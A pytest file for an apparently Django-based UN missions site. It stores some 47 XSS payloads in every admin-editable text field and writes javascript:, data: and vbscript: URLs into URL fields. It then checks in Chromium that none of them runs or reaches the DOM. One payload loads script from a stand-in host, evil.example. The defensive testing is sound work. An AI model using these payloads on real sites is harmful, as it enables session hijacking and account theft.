"""Stored XSS: payloads saved through every text field an editor can fill never run in a real browser.

Each text field of each content model gets a payload through the admin's own change form (what an
editor would type); URL fields, which the forms refuse to take as `javascript:`, get theirs written
around the forms, as an import or the shell could. Then Chromium opens the public pages and the
admin pages that show them, and nothing may open a dialog, run, or even reach the DOM as markup.
"""

from datetime import date

import pytest
from django.db import models
from django.urls import reverse

from missions.models import InterestPoint, Mission, PersonnelReport, Update
from tests.helpers import (
    admin_form,
    make_agreement,
    make_casualty,
    make_event,
    make_interest_point,
    make_mission,
    make_report,
)
from timeline.models import Agreement, Casualty, Event

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(3)>",
    "<IMG SRC=x OnErRoR=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><a xlink:href='javascript:alert(7)'><text y='20'>x</text></a></svg>",
    "<body onload=alert(8)>",
    "<iframe src='javascript:alert(9)'></iframe>",
    "<iframe srcdoc='<script>alert(10)</script>'></iframe>",
    "<a href='javascript:alert(11)'>link</a>",
    "<a href='JaVaScRiPt:alert(12)'>link</a>",
    "<a href='&#106;avascript:alert(13)'>link</a>",
    "<a href='jav&#x09;ascript:alert(14)'>link</a>",
    "<a href=' javascript:alert(15)'>link</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4='>link</a>",
    "<a href='vbscript:msgbox(17)'>link</a>",
    "<object data='javascript:alert(18)'></object>",
    "<embed src='javascript:alert(19)'>",
    "<div style=\"background:url('javascript:alert(20)')\">x</div>",
    "<style>body{background:url('javascript:alert(21)')}</style>",
    "<p style='behavior:url(x.htc);width:expression(alert(22))'>x</p>",
    "<link rel=stylesheet href='javascript:alert(23)'>",
    "<input autofocus onfocus=alert(24)>",
    "<details open ontoggle=alert(25)>",
    "<marquee onstart=alert(26)>x</marquee>",
    "<video><source onerror=alert(27)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(28)>",
    '"><script>alert(29)</script>',
    "'><img src=x onerror=alert(30)>",
    "</title><script>alert(31)</script>",
    "</script><script>alert(32)</script>",
    '" onmouseover="alert(33)" x="',
    "' onfocus='alert(34)' autofocus='",
    "<!--<img src=x onerror=alert(35)>-->",
    "<scr<script>ipt>alert(36)</scr</script>ipt>",
    "<form action='javascript:alert(37)'><button>go</button></form>",
    "<base href='javascript:alert(38)//'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(39)'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(40)>'>",
    "<template><img src=x onerror=alert(41)></template>",
    "<p onclick='alert(42)'>click me</p>",
    "&lt;script&gt;alert(43)&lt;/script&gt;",
    "{{ 7|add:7 }}{% now 'Y' %}<img src=x onerror=alert(44)>",
    "\u003cimg src=x onerror=alert(45)\u003e",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(46)>",
]
URL_PAYLOADS = [
    "javascript:alert(101)",
    "JAVASCRIPT:alert(102)",
    " javascript:alert(103)",
    "data:text/html,<script>alert(104)</script>",
    "vbscript:msgbox(105)",
]
# Fields that must keep their format for the page to exist at all (feed addresses: https, one a line).
FIXED = {"slug", "update_feeds"}
REQUIRED_TEXT = {"mandate": "<p>Mandate.</p>"}

# Run in the page: everything that could run or load something it should not.
FIND_INJECTED = """() => {
  const found = [];
  const dangerous = /^\\s*(javascript|data|vbscript):/i;
  for (const el of document.querySelectorAll('*')) {
    for (const attribute of el.attributes) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) found.push(`${el.tagName} ${name}`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc'].includes(name)
          && dangerous.test(attribute.value)) found.push(`${el.tagName} ${name}=${attribute.value}`);
      if (name === 'style' && /url\\(|expression/i.test(attribute.value)) found.push(`${el.tagName} style`);
    }
  }
  for (const tag of ['iframe', 'object', 'embed', 'base', 'meta[http-equiv]', 'form[action^="javascript" i]']) {
    document.querySelectorAll(tag).forEach(el => found.push(el.outerHTML.slice(0, 80)));
  }
  for (const el of document.querySelectorAll('script, style')) {
    const ours = el.src || el.nonce || el.type === 'application/ld+json';
    if (!ours) found.push(el.outerHTML.slice(0, 80));
    if (el.src && new URL(el.src).origin !== location.origin) found.push(el.src);
  }
  for (const el of document.querySelectorAll('script[type="application/ld+json"]')) {
    try { JSON.parse(el.textContent); } catch (error) { found.push('broken JSON-LD'); }
  }
  return found;
}"""


def text_fields(model):
    return [
        field.name
        for field in model._meta.get_fields()
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.URLField)
        and field.editable
        and not field.choices
        and field.name not in FIXED
    ]


def url_fields(model):
    return [field.name for field in model._meta.get_fields() if isinstance(field, models.URLField)]


class Payloads:
    """Hands out the payloads in turn, each cut to fit the field it goes into."""

    def __init__(self):
        self.index = 0
        self.used = set()

    def next_for(self, model, name):
        limit = model._meta.get_field(name).max_length or 10_000
        for _ in PAYLOADS:
            payload = PAYLOADS[self.index % len(PAYLOADS)]
            self.index += 1
            if len(payload) <= limit:
                self.used.add(payload)
                return payload
        return '"><b x=1>'[:limit]


@pytest.fixture
def content(site):
    mission = make_mission(acronym="UNXSS", slug="unxss")
    event = make_event(mission, title="Attack")
    make_casualty(mission, event=event, casualty_id="UNXSS-1", incident_type="malicious_act", nationality="TD")
    make_casualty(mission, event=event, group="national_forces", killed=3)
    make_agreement(mission, parties="Government\nArmed groups")
    make_report(mission, date(2016, 7, 31), troops=100)
    make_interest_point(mission, title="Point", body="<p>Why</p>")
    Update.objects.create(mission=mission, author="A", text="Post", posted_at="2016-07-01T12:00Z", status="published")
    return mission


def save_through_the_admin(client, obj, values):
    url = reverse(f"admin:{obj._meta.app_label}_{obj._meta.model_name}_change", args=[obj.pk])
    form = admin_form(client, url)
    # The forms refuse the `javascript:` addresses a previous round wrote around them: give them real ones.
    written_around = {payload.strip() for payload in URL_PAYLOADS}
    form = {
        name: "https://example.org/source" if value.strip() in written_around else value for name, value in form.items()
    }
    response = client.post(url, {**form, **values})
    assert response.status_code == 302, f"{obj._meta.label} refused: {errors_on(response)}"


def errors_on(response):
    """The errors an admin form shows, the inline forms' included."""
    errors = [response.context["adminform"].form.errors]
    errors += [formset.formset.errors for formset in response.context.get("inline_admin_formsets", [])]
    return errors + [str(message) for message in response.context.get("messages", [])]


def store_payloads(client, mission, payloads):
    """Fill every text field of the mission's content with payloads; returns how many fields got one."""
    filled = 0
    objects = [mission, *mission.events.all(), *mission.agreements.all(), *mission.updates.all()]
    objects += [*mission.personnel_reports.all(), *Casualty.objects.filter(mission=mission)]
    for obj in objects:
        # Only a UN fatality record may carry a UN casualty id.
        fields = [name for name in text_fields(type(obj)) if name != "casualty_id" or obj.casualty_id]
        values = {name: payloads.next_for(type(obj), name) for name in fields}
        # A published mission needs a mandate: some words stay once the payload is cleaned away.
        values = {name: value + REQUIRED_TEXT.get(name, "") for name, value in values.items()}
        save_through_the_admin(client, obj, values)
        filled += len(fields)
    # Interest points are edited inline on their mission; the shell or an import could write anything.
    for point in mission.interest_points.all():
        InterestPoint.objects.filter(pk=point.pk).update(title=payloads.next_for(InterestPoint, "title"))
        InterestPoint.objects.filter(pk=point.pk).update(body=payloads.next_for(InterestPoint, "body"))
        filled += 2
    for model in (Mission, Event, Agreement, Update, PersonnelReport, Casualty):
        for index, name in enumerate(url_fields(model)):
            rows = Mission.objects.filter(pk=mission.pk) if model is Mission else model.objects.filter(mission=mission)
            rows.update(**{name: URL_PAYLOADS[(index + filled) % len(URL_PAYLOADS)]})
    return filled


def visit(page, url):
    dialogs, csp = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: csp.append(message.text) if "Content Security Policy" in message.text else None)
    page.goto(url)
    page.mouse.move(200, 300)
    page.keyboard.press("Tab")
    page.wait_for_timeout(200)
    return {"dialogs": dialogs, "csp": csp, "injected": page.evaluate(FIND_INJECTED)}


def test_no_stored_payload_ever_runs(browser, site, content, admin_client):
    context = browser.new_context()
    context.add_cookies([{"name": "sessionid", "value": admin_client.cookies["sessionid"].value, "url": site}])
    staff_page, public_page = context.new_page(), browser.new_page()
    public = [
        "/",
        "/missions/unxss/",
        "/missions/unxss/timeline/",
        "/missions/unxss/casualties/",
        "/fr/missions/unxss/",
    ]
    admin = [
        reverse("admin:missions_mission_changelist"),
        reverse("admin:missions_mission_change", args=[content.pk]),
        reverse("admin:timeline_event_changelist"),
        reverse("admin:timeline_event_change", args=[content.events.get().pk]),
        reverse("admin:timeline_agreement_changelist"),
        reverse("admin:missions_update_changelist"),
    ]
    payloads, problems = Payloads(), {}

    # Two rounds, so that every payload lands in some field and most in several kinds of field.
    for round_ in (1, 2):
        assert store_payloads(admin_client, content, payloads) >= 30
        findings = {path: visit(public_page, site + path) for path in public}
        findings |= {f"staff {path}": visit(staff_page, site + path) for path in ["/missions/unxss/", *admin]}
        problems |= {f"round {round_}: {path}": found for path, found in findings.items() if any(found.values())}

    assert payloads.used == set(PAYLOADS)
    assert problems == {}
